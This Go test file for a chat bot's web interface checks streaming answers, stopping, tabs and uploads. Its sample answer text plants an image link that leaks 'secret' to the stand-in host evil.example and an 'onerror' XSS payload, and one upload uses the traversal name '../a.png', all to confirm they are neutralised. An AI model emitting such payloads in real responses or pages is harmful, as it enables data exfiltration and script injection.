package web_test

import (
	"bytes"
	"context"
	"fmt"
	"mime/multipart"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"bobbin/bot"
	"bobbin/schemas"
)

func answer(a schemas.Answering) bot.Reply {
	r := bot.Reply{Blocks: []bot.Block{{Answer: &a}}}
	if a.Done {
		r.Replace = "stop-1"
	} else {
		r.ID, r.Choices = "stop-1", []bot.Choice{{Key: "stop", Label: "Stop"}}
	}
	return r
}

// talker is a bot that shows each state it is given, and stops when it is told to.
func talker(s *site) (states chan schemas.Answering) {
	states = make(chan schemas.Answering)
	stopped := make(chan struct{}, 1)
	s.reply = func(ctx context.Context, req bot.Request) bot.Reply {
		switch {
		case req.Action != nil && req.Action.ID == "stop-1":
			stopped <- struct{}{}
			return bot.Reply{}
		case strings.HasPrefix(req.Text, "/"):
			return s.script(req)
		}
		req.Stream(answer(schemas.Answering{}))
		var last schemas.Answering
		for {
			select {
			case last = <-states:
				if last.Done {
					return answer(last)
				}
				req.Stream(answer(last))
			case <-stopped:
				last.Done, last.Why = true, "stopped by @Alice"
				return answer(last)
			case <-ctx.Done():
				return bot.Reply{Bad: true}
			}
		}
	}
	return states
}

func steps(state schemas.StepState) []schemas.Step {
	return []schemas.Step{
		{Tool: "github.search_issues", State: schemas.StepDone, RunsAs: "alice", Took: 310 * time.Millisecond, Receipt: "7f3a", Args: []byte(`{"query":"broken link","repo":"acme/site"}`), Result: "1 issue: #42 <b>Broken link</b>"},
		{Tool: "github.update_issue", State: state, RunsAs: "bob", Took: 90 * time.Millisecond, Args: []byte(`{"number":42,"state":"closed"}`)},
	}
}

func TestAnswer_StreamsAndResumes(t *testing.T) {
	s := start(t)
	states := talker(s)
	c := visitor(t, s)
	a := listen(t, s, c, "")
	a.next(t)
	done := make(chan string, 1)
	go func() {
		_, body, _ := do(t, c, "POST", s.url(requests), `{"text":"fix it","tag":"t1"}`)
		done <- body
	}()
	until := func(st *stream, kind, want string) string {
		t.Helper()
		for range 200 {
			id, k, data := st.next(t)
			if k == kind && strings.Contains(data, want) {
				return id
			}
		}
		t.Fatalf("no %s with %s", kind, want)
		return ""
	}
	until(a, "answer", `"id":"stop-1"`)
	// While it is answered, a command goes ahead.
	if code, body, _ := do(t, c, "POST", s.url(requests), `{"text":"/mcp list"}`); code != 200 || !strings.Contains(body, "weather") {
		t.Fatalf("%d %s", code, body)
	}
	states <- schemas.Answering{Text: "I **look**", Steps: steps(schemas.StepRunning)}
	at := until(a, "answer", `{"k":"b","s":[{"t":"look"}]}`)
	for i := range 100 {
		states <- schemas.Answering{Text: fmt.Sprintf("I **look** %d", i)}
	}
	states <- schemas.Answering{Text: "I **look** at the end"}
	// What a page missed of the states in between is not sent.
	until(a, "answer", "at the end")
	b := listen(t, s, c, at)
	if _, kind, data := b.next(t); kind != "answer" || !strings.Contains(data, "at the end") {
		t.Errorf("%s %s", kind, data)
	}
	states <- schemas.Answering{Text: "done", Done: true, Steps: steps(schemas.StepDone), Why: "after 40 steps"}
	body := <-done
	for _, want := range []string{`"done":true`, `"why":"after 40 steps"`, `"line":"github.search_issues · 310 ms · as you · receipt 7f3a"`, `as @bob`, `\"repo\": \"acme/site\"`} {
		if !strings.Contains(body, want) {
			t.Errorf("the answer lacks %s: %s", want, body)
		}
	}
	until(b, "entry", `"done":true`)
	_, _, history := listen(t, s, c, "").next(t)
	if strings.Contains(history, "pending") || !strings.Contains(history, "after 40 steps") {
		t.Errorf("history %s", history)
	}
}

func TestAnswer_OfAnotherDoor(t *testing.T) {
	s := start(t)
	c := visitor(t, s)
	a := listen(t, s, c, "")
	a.next(t)
	tell := func(door schemas.Door, x schemas.Answering) {
		r := answer(x)
		r.Blocks = append([]bot.Block{{Text: "@bob in the terminal: fix it"}}, r.Blocks...)
		s.notify(t, bot.Notice{Thread: "web-default", Door: door, Reply: r})
	}
	tell(schemas.DoorWeb, schemas.Answering{Text: "own"})
	tell(schemas.DoorTerminal, schemas.Answering{Text: "one"})
	if _, kind, data := a.next(t); kind != "entry" || !strings.Contains(data, `"one"`) || !strings.Contains(data, `"pending":true`) {
		t.Fatalf("%s %s", kind, data)
	}
	tell(schemas.DoorTerminal, schemas.Answering{Text: "one two"})
	if _, kind, data := a.next(t); kind != "answer" || !strings.Contains(data, `"one two"`) {
		t.Fatalf("%s %s", kind, data)
	}
	tell(schemas.DoorTerminal, schemas.Answering{Text: "one two three", Done: true})
	if _, kind, data := a.next(t); kind != "entry" || !strings.Contains(data, `"one two three"`) || strings.Contains(data, "pending") {
		t.Fatalf("%s %s", kind, data)
	}
	if _, _, history := listen(t, s, c, "").next(t); strings.Count(history, `"kind"`) != 1 || strings.Contains(history, "own") {
		t.Errorf("history %s", history)
	}
}

func TestAnswer_Files(t *testing.T) {
	s := start(t)
	c := visitor(t, s)
	send := func(text string, names ...string) (int, string) {
		var b bytes.Buffer
		m := multipart.NewWriter(&b)
		_ = m.WriteField("text", text)
		for _, n := range names {
			p, _ := m.CreateFormFile("file", n)
			_, _ = p.Write(bytes.Repeat([]byte("x"), 2<<20))
		}
		_ = m.Close()
		code, body, _ := do(t, c, "POST", s.url(requests), b.String(), "Content-Type", m.FormDataContentType())
		return code, body
	}
	if code, body := send("what is this?", "../a.png", "b.txt"); code != 200 {
		t.Fatalf("%d %s", code, body)
	}
	if got := s.last(); got.Text != "what is this?" || got.File != nil || len(got.Files) != 2 || got.Files[0].Name != "a.png" || len(got.Files[1].Data) != 2<<20 {
		t.Errorf("the bot got %q with %d files", got.Text, len(got.Files))
	}
	if code, _ := send("", "a.png"); code != 200 {
		t.Errorf("a file alone: %d", code)
	}
	if code, _ := send("x"); code != 400 {
		t.Errorf("no file: %d", code)
	}
	if code, body := send("x", strings.Split(strings.Repeat("f.png ", 10)+"f.png", " ")...); code != 413 && code != 400 {
		t.Errorf("too many: %d %s", code, body)
	}
	if _, _, history := listen(t, s, c, "").next(t); !strings.Contains(history, `what is this?\na.png · 2048.0 KiB\nb.txt`) {
		t.Errorf("history %s", history)
	}
}

const long = "I looked at **acme/site** and found it.\n\n## What is wrong\n\n1. The page `index.html` links to `/dokcs`.\n2. The [issue](https://github.example/acme/site/issues/42?utm=x) is open.\n\n" +
	"```html\n<a href=\"/dokcs\">Docs</a>\n```\n\n> Please fix this soon.\n\n| file | line |\n|------|-----:|\n| index.html | 12 |\n\n![chart](https://evil.example/?q=secret) <img src=x onerror=alert(1)>"

func TestPage_Answer(t *testing.T) {
	for _, c := range []struct {
		name          string
		width, height int64
		dark          bool
	}{{"answer-light", 1280, 1000, false}, {"answer-dark", 1280, 1000, true}, {"answer-360", 360, 780, false}} {
		t.Run(c.name, func(t *testing.T) {
			s := start(t)
			s.servers, s.tools = crowd()
			states := talker(s)
			b := open(t, s, c.width, c.height, c.dark)
			b.paste("fix the broken link issue and close it")
			b.Key(kb.Enter)
			b.Until(`document.querySelector(".answer-status").textContent.includes("thinks")`)
			b.Until(`[...document.querySelectorAll(".choices button")].map((x) => x.textContent).join() === "Stop"`)
			states <- schemas.Answering{Text: "I looked at **acme", Steps: steps(schemas.StepWaiting), Status: "waits for @Alice to allow github.update_issue"}
			b.Until(`document.querySelector(".answer-status").textContent.includes("waits for @Alice")`)
			if got := b.Text(`document.querySelector("[data-answer]").getAttribute("aria-busy")`); got != "true" {
				t.Errorf("busy %s", got)
			}
			b.Click(`details.step summary`)
			b.Until(`document.querySelector("details.step").open && document.querySelector("details.step pre").textContent.includes("acme/site")`)
			b.Shot(c.name + "-running")
			states <- schemas.Answering{Text: long, Steps: steps(schemas.StepDone)}
			b.Until(`!!document.querySelector(".md-table") && document.querySelector("details.step").open`)
			states <- schemas.Answering{Text: long, Steps: steps(schemas.StepDone), Done: true, Model: "anthropic/claude-sonnet-5", Tokens: schemas.Tokens{In: 12000, Out: 345}}
			b.Until(`document.querySelector(".answer-end").textContent === "anthropic/claude-sonnet-5 · 12,345 tokens"`)
			b.Until(`!document.querySelector(".choices button") && document.querySelector("[data-answer]").getAttribute("aria-busy") === "false"`)
			if got := b.Text(`document.querySelectorAll(".answer a, .answer img, .answer script").length`); got != "0" {
				t.Errorf("%s elements that lead or load", got)
			}
			if got := b.Text(`[...document.querySelectorAll(".answer .address")].map((x) => x.textContent).join(" ")`); got != "https://github.example/acme/site/issues/42?utm=x https://evil.example/?q=secret" {
				t.Errorf("addresses %q", got)
			}
			if got := b.Text(`document.documentElement.scrollWidth <= innerWidth && document.querySelector("#scroll").scrollWidth <= document.querySelector("#scroll").clientWidth`); got != "true" {
				t.Error("the page scrolls sideways")
			}
			b.Shot(c.name)
			b.Text(`document.querySelector("#scroll").scrollTo(0, 0)`)
			b.Shot(c.name + "-top")
		})
	}
}

// A question that was answered makes room for the answer, which goes on above it.
func TestPage_AnsweredQuestionFolds(t *testing.T) {
	s := start(t)
	b := open(t, s, 900, 700, false)
	s.notify(t, bot.Notice{Thread: "web-default", To: "alice", Reply: bot.Reply{Private: true, ID: "card-1", Choices: []bot.Choice{{Key: "cancel", Label: "Once"}}, Blocks: []bot.Block{
		{Text: "asks to use notes.add · it writes"}, {Facts: []bot.Fact{{Label: "a", Value: "2"}}}, {Code: "{\n  \"a\": 2\n}"}}}})
	b.Until(`document.querySelector(".card .facts")?.offsetHeight > 0`)
	b.Click(`.card .choices button`)
	b.Until(`document.querySelector(".card .settled").textContent.includes("You chose Once") && !document.querySelector(".card details").open`)
	b.Shot("asked")
	b.Click(`.card summary`)
	b.Until(`document.querySelector(".card .facts").offsetHeight > 0 && document.querySelector(".card").textContent.includes('"a": 2')`)
}

// Of a message that went into an answer on its way, only the message stays.
func TestPage_AnswerThatJoinedAnother(t *testing.T) {
	s := start(t)
	over := make(chan struct{})
	s.reply = func(_ context.Context, req bot.Request) bot.Reply {
		req.Stream(answer(schemas.Answering{Joined: true, Status: "goes into the answer that is on its way"}))
		<-over
		return bot.Reply{Replace: "stop-1"}
	}
	b := open(t, s, 900, 700, false)
	b.paste("and this")
	b.Key(kb.Enter)
	b.Until(`document.querySelector(".answer-status").textContent.includes("goes into the answer") && document.querySelector(".choices").offsetHeight === 0`)
	close(over)
	b.Until(`document.querySelectorAll("#log > div").length === 1 && document.querySelector(".you").textContent.includes("and this")`)
	b.Do(chromedp.Reload())
	b.Until(`document.querySelectorAll("#log > div").length === 1`)
}

// Two tabs see the same answer come, one of them opened in the middle; each can stop it.
func TestPage_AnswerInTwoTabs(t *testing.T) {
	s := start(t)
	states := talker(s)
	one := open(t, s, 900, 700, false)
	one.paste("fix it")
	one.Key(kb.Enter)
	states <- schemas.Answering{Text: "half of it", Steps: steps(schemas.StepRunning)}
	two := open(t, s, 900, 700, false)
	two.Until(`document.querySelector(".md").textContent === "half of it"`)
	states <- schemas.Answering{Text: "half of it and more", Steps: steps(schemas.StepRunning)}
	one.Until(`document.querySelector(".md").textContent === "half of it and more"`)
	two.Until(`document.querySelector(".md").textContent === "half of it and more"`)
	two.Click(`.choices button`)
	for _, b := range []*tab{one, two} {
		b.Until(`document.querySelector(".answer-end").textContent.includes("stopped by @Alice") && !document.querySelector(".choices")`)
		if n := b.Text(`document.querySelectorAll("#log > div").length`); n != "2" {
			t.Errorf("%s entries", n)
		}
	}
	one.Do(chromedp.Reload())
	one.Until(`document.querySelector(".answer-end")?.textContent.includes("stopped by @Alice")`)
}

func TestPage_AttachedFile(t *testing.T) {
	s := start(t)
	b := open(t, s, 900, 700, false)
	b.Text(`(() => {
		const d = new DataTransfer();
		d.items.add(new File(["x".repeat(2000)], "plan.txt", { type: "text/plain" }));
		d.items.add(new File(["png"], "a.png", { type: "image/png" }));
		dispatchEvent(new DragEvent("drop", { dataTransfer: d }));
	})()`)
	b.Until(`document.querySelectorAll("#chips .chip").length === 2`)
	b.Shot("chips")
	b.Click(`#chips .chip:last-child button`)
	b.Until(`document.querySelectorAll("#chips .chip").length === 1`)
	b.say("what is in it?")
	if got := s.last(); got.Text != "what is in it?" || len(got.Files) != 1 || got.Files[0].Name != "plan.txt" {
		t.Errorf("the bot got %q, %d files", got.Text, len(got.Files))
	}
	b.Until(`document.querySelector("#chips").hidden && document.querySelector(".you").textContent.includes("plan.txt · 2.0 KiB")`)
}
